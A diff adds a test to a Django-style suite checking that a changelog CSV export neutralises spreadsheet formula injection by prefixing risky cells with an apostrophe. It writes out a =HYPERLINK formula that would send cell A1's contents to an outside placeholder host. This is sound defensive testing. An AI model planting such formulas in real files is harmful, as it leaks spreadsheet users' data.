@@ -205,3 +205,16 @@ def test_special_categories_reach_only_the_roles_that_see_them(client, casorate,
     client.force_login(secretary)
     seen = client.get(_url(casorate, name)).content.decode("utf-8")
     assert reason in seen and priority in seen
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(client, casorate, make_member):
+    """A title typed as «=HYPERLINK(…)» must open as that text, not as a formula (CSV injection):
+    the cell starts with an apostrophe, as spreadsheets read a text."""
+    secretary = make_member(casorate.organization, "secretary")
+    client.force_login(secretary)
+    formula = '=HYPERLINK("https://example.org/?d="&A1;"Apri")'
+    _rename_objective(client, casorate, _first_objective(casorate), formula)
+    response = client.get(_url(casorate, "changelog:csv"), {"person": secretary.pk})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][5] == rows[1][8] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
